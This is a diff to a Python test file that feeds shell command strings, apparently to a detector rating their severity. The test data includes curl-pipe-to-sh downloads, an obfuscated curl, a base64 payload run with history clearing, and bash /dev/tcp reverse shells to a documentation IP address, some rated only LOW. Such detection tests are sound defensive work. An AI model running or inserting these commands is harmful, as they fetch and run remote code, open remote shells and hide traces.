@@ -50,7 +50,9 @@ def executed(pid: int, exe: str, argv: list[str]) -> Event:
         ("curl -s http://10.0.0.7/x | sh", Severity.MEDIUM),
         ("c''url -s http://example.org/x | sh", Severity.CRITICAL),
         ("echo aWQ= | base64 -d | sh; history -c", Severity.HIGH),
-        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Severity.MEDIUM),
+        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Severity.LOW),
+        ("cd /tmp; ./x; bash -i >& /dev/tcp/198.51.100.7/1 0>&1", Severity.LOW),
+        ("bash -i >& /dev/tcp/198.51.100.7/1 0>&1; unset HISTFILE", Severity.HIGH),
     ],
 )
 def test_points_decide(shipped: ModuleSet, text: str, severity: Severity) -> None:
